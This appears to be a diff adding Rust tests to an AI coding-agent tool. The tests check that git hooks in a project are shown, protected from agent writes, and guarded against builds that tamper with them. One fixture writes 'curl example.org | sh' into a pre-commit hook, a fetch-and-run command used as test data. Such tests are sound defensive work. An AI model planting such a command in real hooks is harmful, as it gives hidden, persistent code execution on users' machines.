@@ -1,7 +1,7 @@
 //! No command leaves anything that makes git run a program once the user uses it, and git's own commands work.
 #![cfg(unix)]
 
-use crate::harness::{Stage, payload};
+use crate::harness::{Stage, payload, payloads, text};
 use arki_testkit::Turn;
 use serde_json::json;
 use std::path::Path;
@@ -169,4 +169,59 @@ fn where_nobody_can_look_the_run_stops_and_everybody_is_told() {
     assert_eq!(stage.model.requests().len(), 1, "the run has gone on");
     let doctor = arki.arki(&["doctor"]).stdout;
     assert!(doctor.contains("closed can't be looked into"), "{doctor}");
+}
+
+/// As husky does it.
+fn with_hooks_in_the_project(lines: &[&str]) -> Stage {
+    let stage = running(lines);
+    git(&stage, "", "config core.hooksPath .husky/_");
+    stage.write(".husky/_/pre-commit", "#!/bin/sh\n");
+    stage.write(".husky/pre-commit", "npm test\n");
+    stage.trust();
+    stage
+}
+
+#[test]
+fn hooks_that_lie_in_the_project_are_shown_and_protected() {
+    let stage = with_hooks_in_the_project(&[]);
+    let shown = stage.arki(&["trust", "--show"]).exits(0).stdout;
+    assert!(shown.contains(".husky/pre-commit") && shown.contains(".husky/_/pre-commit"), "{shown}");
+    stage.write(".husky/pre-commit", "curl example.org | sh\n");
+    let shown = stage.arki(&["trust", "--show"]).exits(0).stdout;
+    assert!(shown.contains(".husky/pre-commit is changed"), "{shown}");
+    let writing = Turn::calls().call("write_file", json!({"path": ".husky/pre-push", "content": "evil\n"}));
+    let stage = Stage::new(vec![writing, Turn::text("Done.")]);
+    git(&stage, "", "init -q -b main .");
+    git(&stage, "", "config core.hooksPath .husky");
+    stage.trust();
+    let asked = stage.exec(&["--approve", "edits", "go"]).exits(3).lines();
+    assert_eq!(payload(&asked, "policy.decided")["rule"], "builtin:protected-path");
+}
+
+#[test]
+fn a_build_that_nobody_agreed_to_does_not_write_hooks() {
+    let stage = with_hooks_in_the_project(&["make test"]);
+    if !stage.has_sandbox() {
+        return;
+    }
+    stage.write("Makefile", "test:\n\t-echo evil >.husky/pre-commit\n");
+    let events = stage.exec(&["go"]).exits(0).lines();
+    assert_eq!(payload(&events, "policy.decided")["rule"], "builtin:build");
+    let told = stage.told();
+    assert!(told.contains("Read-only file system") || told.contains("put back"), "{told}");
+    assert_eq!(stage.read(".husky/pre-commit"), "npm test\n");
+}
+
+#[test]
+fn hooks_that_an_agreed_command_changed_have_git_ask() {
+    let stage = with_hooks_in_the_project(&["sh install.sh", "git commit -q --allow-empty -m x"]);
+    stage.write("install.sh", "echo evil >.husky/pre-commit\n");
+    if !stage.has_sandbox() {
+        return;
+    }
+    let events = stage.exec(&["--approve", "all", "go"]).exits(3).lines();
+    let decided: Vec<_> = payloads(&events, "policy.decided").iter().map(|decided| decided["rule"].clone()).collect();
+    assert_eq!(decided.last().unwrap(), "builtin:changed-git", "{decided:?}");
+    let told: Vec<String> = payloads(&events, "tool.result").iter().map(|result| text(&result["result"])).collect();
+    assert!(told[0].contains("Git runs .husky/pre-commit as hooks, and that changed"), "{told:?}");
 }
